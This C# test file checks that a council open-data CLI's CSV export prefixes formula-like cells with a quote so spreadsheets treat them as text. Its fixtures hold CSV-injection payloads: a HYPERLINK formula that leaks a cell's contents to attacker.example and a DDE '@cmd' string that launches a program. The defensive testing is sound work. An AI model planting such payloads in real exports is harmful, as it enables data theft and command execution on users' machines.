using System.Text;
using Microsoft.Data.Sqlite;
using Quorum.Cli.Tests.Database;

namespace Quorum.Cli.Tests.Export;

/// <summary>
/// Open data is opened in spreadsheets: a public field that starts like a formula (= + - @, tab, CR) must arrive as
/// text, not run. The demo council's public records are given such values with SQL and exported by the real CLI.
/// </summary>
public sealed class CsvInjectionTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Agenda\")";

    [Fact]
    public async Task Cells_starting_like_a_formula_are_exported_with_a_leading_quote_and_no_cell_starts_like_one()
    {
        var db = await CliDemo.CopyAsync();
        Execute(db, $"""
            UPDATE Meetings SET Venue = '{Hyperlink.Replace("'", "''", StringComparison.Ordinal)}';
            UPDATE Committees SET Purpose = '+SUM(1,1)';
            UPDATE Wards SET Name = '@cmd|'' /C calc''!A0' WHERE Id = (SELECT Id FROM Wards LIMIT 1);
            UPDATE PartyGroups SET Name = '-2+3' WHERE Id = (SELECT Id FROM PartyGroups LIMIT 1);
            UPDATE People SET GivenName = char(9) || 'Tabbed' WHERE IsCouncillor = 1;
            UPDATE People SET FamilyName = char(13) || 'Returned' WHERE IsCouncillor = 1;
            """);
        var output = Path.Combine(Path.GetDirectoryName(db)!, "export");

        var run = await CliRunner.RunAsync("export", "--out", output, "--database", db);

        Assert.True(run.ExitCode == 0, run.Stderr);
        var cells = Directory.GetFiles(output, "*.csv").ToDictionary(f => Path.GetFileNameWithoutExtension(f)!, f => Cells(File.ReadAllText(f)));
        Assert.Contains("'" + Hyperlink, cells["meetings"]);
        Assert.Contains("'+SUM(1,1)", cells["committees"]);
        Assert.Contains("'@cmd|' /C calc'!A0", cells["wards"]);
        Assert.Contains("'-2+3", cells["party-groups"]);
        Assert.Contains("'\tTabbed", cells["people"]);
        Assert.Contains("'\rReturned", cells["people"]);
        foreach (var (table, values) in cells)
        {
            Assert.All(values, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"{table}.csv has a cell starting like a formula: {cell}"));
        }
        // JSON Lines are data for programs, not spreadsheets: the values stay as they are.
        Assert.Contains("\"venue\":\"=HYPERLINK(", File.ReadAllText(Path.Combine(output, "meetings.jsonl")), StringComparison.Ordinal);
    }

    private static void Execute(string path, string sql)
    {
        using var connection = new SqliteConnection(new SqliteConnectionStringBuilder { DataSource = path, Pooling = false }.ToString());
        connection.Open();
        using var command = connection.CreateCommand();
        command.CommandText = sql;
        command.ExecuteNonQuery();
    }

    /// <summary>Every cell of an RFC 4180 file (quoted fields may hold commas, quotes, CR and LF), header row included.</summary>
    private static List<string> Cells(string csv)
    {
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c is ',' or '\n')
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else if (c != '\r')
            {
                cell.Append(c);
            }
        }
        if (cell.Length > 0)
        {
            cells.Add(cell.ToString());
        }
        return cells;
    }
}
